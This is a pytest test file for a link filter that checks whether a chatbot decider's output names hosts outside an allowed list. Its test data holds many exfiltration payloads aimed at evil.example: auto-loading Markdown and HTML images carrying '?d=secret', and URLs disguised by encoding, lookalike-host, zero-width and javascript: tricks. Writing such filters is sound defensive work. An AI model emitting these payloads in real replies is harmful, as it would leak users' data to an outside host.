"""Words of a decider lead nowhere that the flow, a tool or an event does not lead to."""

import pytest

from maitred.fallback.links import foreign_link

HOSTS = {"shop.example"}
HELD = [{"pay_url": "https://pay.example/SO-1?a=1"}, 7, None]

STOLEN = (
    "https://evil.example/?d=secret",
    "see //evil.example/x",
    "http:/\\evil.example",
    "https:\\\\evil.example",
    "https://shop.example@evil.example/",
    "https://shop.example.evil.example/",
    "https://evil.example/https://shop.example/",
    "HTTPS://EVIL.EXAMPLE",
    "ｈｔｔｐｓ://evil.example",
    "https&#58;&#47;&#47;evil.example",
    "ht\u200btps://evil.example",
    "www.evil.example/x",
    "[pay](evil.example/x)",
    "[pay]( <evil.example/x> )",
    "[pay][1]\n\n[1]: evil.example/x",
    "[pay](javascript:alert(1))",
    "data:text/html,<b>",
    "https://pay.example/SO-1?a=1&d=secret",
    "https://pay.example/SO-2",
    "https://127.0.0.1:80/",
    "https://[::1]/",
)
READ_AGAIN = (
    "![x](https://shop.example\\@evil.example/?d=secret)",
    "![x](https://shop.example\\.evil.example/?d=secret)",
    "<img src='https://shop.example&Tab;.evil.example/?d=secret'>",
    "<img src='https://shop.example\n.evil.example/?d=secret'>",
    "![x](https://shop.example&#9;.evil.example/?d=secret)",
    "<img src='https://shop.example\u0334/?d=secret'>",
)
"""A named host, until Markdown or a browser has read it."""
IMAGES = (
    "<img src='http:evil.example/?d=secret'>",
    "<img src='https:/evil.example/?d=secret'>",
    "<img src='/&Tab;/evil.example/?d=secret'>",
    "<img src='ht&NewLine;tp:evil.example/?d=secret'>",
    "![x](/&#9;/evil.example/?d=secret)",
    "!\\[x](https://evil.example) ![x](http\\://evil.example/?d=secret)",
    "![x](https://evil.example/?d=secret)",
    "! [x](//evil.example)",
    "![x][1]\n[1]: https://evil.example/?d=secret",
    "<img src='https://evil.example/?d=secret'>",
    "<IMG SRC=//evil.example>",
    "< img src=//evil.example",
    "&lt;img src=//evil.example&gt;",
    "<a href=x style='background:url(//evil.example)'>",
    "！[x](https://evil.example)",
    "![x](data:image/png;base64,AAAA)",
)
FINE = (
    "Nothing here.",
    "a/b, 5:/7 // no: 1.2.3, see point 3: yes",
    "https://shop.example/plans?x=1.",
    "(https://shop.example)",
    "https://shop.example\nhttps://shop.example/plans\tand so on",
    "[plans](https://shop.example/plans\n'all of them')\nhttps: is safe, see https://shop.example/a\\_b",
    "[1]: https://shop.example/plans\n[2]: https://shop.example/prices\n\nMore (in brackets).",
    "[plans](https://shop.example/plans)",
    "![logo](https://SHOP.example:443/logo.png)",
    "Pay at https://pay.example/SO-1?a=1, please.",
    "see [below](#terms), or mail [us](mailto:a@b.example)",
)


@pytest.mark.parametrize("words", STOLEN + READ_AGAIN + IMAGES)
def test_a_flow_that_names_hosts_shows_no_other(words: str):
    """However the address is written; a host that only begins or ends like one is another."""
    assert foreign_link(words, HOSTS, HELD)


@pytest.mark.parametrize("words", IMAGES)
def test_nothing_loads_by_itself_from_elsewhere(words: str):
    """Also where the flow names no hosts."""
    assert foreign_link(words, None, HELD)


@pytest.mark.parametrize("words", FINE)
def test_what_the_flow_or_a_tool_gave_is_shown(words: str):
    """Hosts that are named, and whole addresses that came from a tool."""
    assert foreign_link(words, HOSTS, HELD) is None


@pytest.mark.parametrize("words", ["https://elsewhere.example/x", "www.elsewhere.example", "1 < 2 and so on"])
def test_a_flow_that_names_no_hosts_may_show_links(words: str):
    """Somebody has to click on them."""
    assert foreign_link(words, None) is None
